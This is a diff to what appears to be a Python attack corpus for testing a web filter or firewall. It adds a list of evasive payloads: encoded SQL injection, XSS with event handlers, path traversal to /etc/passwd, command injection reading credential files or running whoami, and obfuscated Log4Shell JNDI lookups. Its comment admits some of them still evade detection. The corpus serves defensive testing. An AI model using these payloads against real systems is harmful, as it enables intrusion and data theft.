@@ -290,6 +290,27 @@ ADDED_LATER_ATTACKS = [
     "1 AND 5651=CTXSYS.DRITHSX.SN(5651,(CHR(113)))", "class.classLoader.URLs[0]=x",
     "x=javax.script.ScriptEngineManager", "x=org.apache.commons.collections.functors.InvokerTransformer",
 ]
+# Evasive spellings (encodings, comments, whitespace, case, separators), added with the last
+# changes; most were caught before them, a few are still missed (MySQL's %a0 as a space,
+# backtick identifiers, "is not null", globbed file names).
+EVASIONS = [
+ "%2531%2527%2520%254f%2552%2520%2531%253d%2531", "%u0027%u0020or%u00201=1--", "1%bf%27 or 1=1--",
+ "1'/**/oR/**/1=1#", "1'%0boR%0b1=1--", "1'%a0or%a01=1--", "1' oR '1'='1'--+", "1'||'1'='1",
+ "1' /*!or*/ 1=1--", "-1'/*!50000union*/+/*!50000select*/+1,2--", "1' and(1)=(1)--", "1'and'1'='1",
+ "1`or`1`=`1", "admin\"--", "admin\" or \"1\"=\"1", "' or 0x31=0x31--", "' or true#", "1 or 1 is not null",
+ "%3Csvg%2Fonload%3Dalert%281%29%3E", "%253Csvg%2520onload%253Dalert(1)%253E", "<sVg OnLoAd=alert(1)>",
+ "<img src=x oNerror=alert`1`>", "<svg\nonload=alert(1)>", "<svg\tonload=alert(1)>", "<svg/onload=confirm(1)>",
+ "<img src=\"x\"onerror=\"alert(1)\">", "<a/href=\"j&#97;vascript:alert(1)\">x</a>", "<iframe/src=\"jav&#x0A;ascript:alert(1)\">",
+ "\"autofocus/onfocus=alert(1)//", "'onmouseover='alert(1)'", "<script\x20type=\"text/javascript\">alert(1)</script>",
+ "<scr\x00ipt>alert(1)</scr\x00ipt>", "<%73cript>alert(1)</script>", "<ScRiPt SrC=//x.example/a></sCrIpT>",
+ "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5c..%5c..%5cwindows%5cwin.ini",
+ "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%u2216..%u2216windows%u2216win.ini", "....\\\\....\\\\etc\\\\passwd",
+ "/etc/./passwd", "/etc//passwd", "/./etc/passwd", "/etc/passwd#", "file:%2F%2F%2Fetc%2Fpasswd",
+ ";%20cat%20/etc/passwd", "%3Bid", "%7Cid", "%60id%60", "%24%28id%29", "; c''at /e??/p??swd", ";c\\a\\t /etc/passwd",
+ ";cat</etc/passwd", "|cat${IFS%??}/etc/passwd", ";$(printf '\\x69\\x64')", "a;{ls,-la}", "&&whoami", "||whoami",
+ "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "${jNdI:LdAp://x/a}", "${${lower:${lower:jndi}}:${lower:ldap}://x/a}",
+ "${::-$}{jndi:ldap://x/a}", "$%7Bjndi:ldap://x/a%7D",
+]
 ADDED_LATER_BENIGN = [
     "public int Id { get; set; }", "art; history; science", "set; reset; go", "ps aux explained",
     "find / -name file linux", "kill -9 meaning", "env vars in docker", "tar cf vs tar czf",
@@ -416,7 +437,7 @@ def attacks() -> list[Entry]:
                               ("../../../var/www/html/x.php", b"x"), ("doc.jsp", b"<% out.println(1); %>")):
         out.append(("upload", "POST", "/upload", {**BROWSER, "content-type": _UPLOAD},
                     _multipart([("file", filename, content)])))
-    out += [_located("added", value, where) for value in ADDED_LATER_ATTACKS
+    out += [_located("added", value, where) for value in ADDED_LATER_ATTACKS + EVASIONS
             for where in ("query", "form", "cookie")]
     return out + located_attacks() + fresh_attacks()
 
